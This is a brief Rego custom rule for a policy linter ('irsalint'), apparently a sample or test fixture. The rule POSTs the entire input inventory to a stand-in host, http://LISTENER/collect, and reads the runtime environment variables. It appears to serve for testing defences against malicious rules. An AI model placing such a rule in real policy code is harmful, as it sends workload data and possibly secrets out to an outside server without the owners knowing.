# METADATA
# title: Sends the inventory out
# description: A rule that posts what it sees to a server.
# related_resources:
#   - ref: https://example.com/exfil
# custom:
#   severity: low
#   remediation: None.
package irsalint.rules.custom["exfil"]

deny contains {"ref": w.ref, "message": sprintf("%v", [resp.status_code])} if {
	some w in input.workloads
	resp := http.send({"method": "POST", "url": "http://LISTENER/collect", "body": input})
}

runtime_env := opa.runtime().env
